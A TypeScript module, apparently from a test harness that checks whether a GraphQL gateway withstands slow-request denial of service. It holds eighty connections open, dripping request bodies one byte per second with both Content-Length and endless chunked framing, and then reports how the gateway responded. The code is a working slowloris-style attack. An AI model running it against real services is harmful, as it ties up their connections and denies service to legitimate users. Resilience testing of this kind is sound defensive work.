import type { Socket } from 'node:net';
import type { Attack } from './attack.js';
import { holdSockets, type SocketStats } from './raw-sockets.js';

const SLOW_BODIES = 64;
const ENDLESS_CHUNKED = 16;

/**
 * Issue 11 (1): 64 connections declare `Content-Length: 5030` and send the body one byte
 * a second, and 16 more send an endless chunked body, one byte a second too.
 */
export const slowBody: Attack = {
  key: 'slow-body',
  title: `(1) ${SLOW_BODIES} slow bodies + ${ENDLESS_CHUNKED} endless chunked`,
  gateway: 'keyed',
  async start(target) {
    const head = (framing: string) =>
      `POST /graphql HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n` +
      Object.entries(target.attackerAuth).map(([name, value]) => `${name}: ${value}\r\n`).join('') +
      `${framing}\r\n\r\n`;
    const timers = new Set<NodeJS.Timeout>();
    const drip = (socket: Socket, byte: string) => {
      const timer = setInterval(() => (socket.writable ? socket.write(byte) : clearInterval(timer)), 1000);
      timers.add(timer);
      socket.once('close', () => {
        clearInterval(timer);
        timers.delete(timer);
      });
    };
    const slow = holdSockets(target.url, SLOW_BODIES, (socket) => {
      socket.write(head('Content-Length: 5030'));
      // Whitespace: a body that would still be valid JSON, were it ever to end.
      drip(socket, ' ');
    }, { read: true });
    const chunked = holdSockets(target.url, ENDLESS_CHUNKED, (socket) => {
      socket.write(head('Transfer-Encoding: chunked'));
      drip(socket, '1\r\n \r\n');
    }, { read: true });
    return {
      async stop() {
        slow.stop();
        chunked.stop();
        for (const timer of timers) clearInterval(timer);
        return `slow: ${describe(slow.stats)}; chunked: ${describe(chunked.stats)}`;
      },
    };
  },
};

export function describe(stats: SocketStats): string {
  const answers = [...stats.statuses].map(([status, n]) => `${status} ×${n}`).join(', ') || 'no answer';
  return `${answers}; ${stats.closedByGateway} of ${stats.opened} closed by the gateway, longest open ${stats.longestSec.toFixed(0)} s`;
}
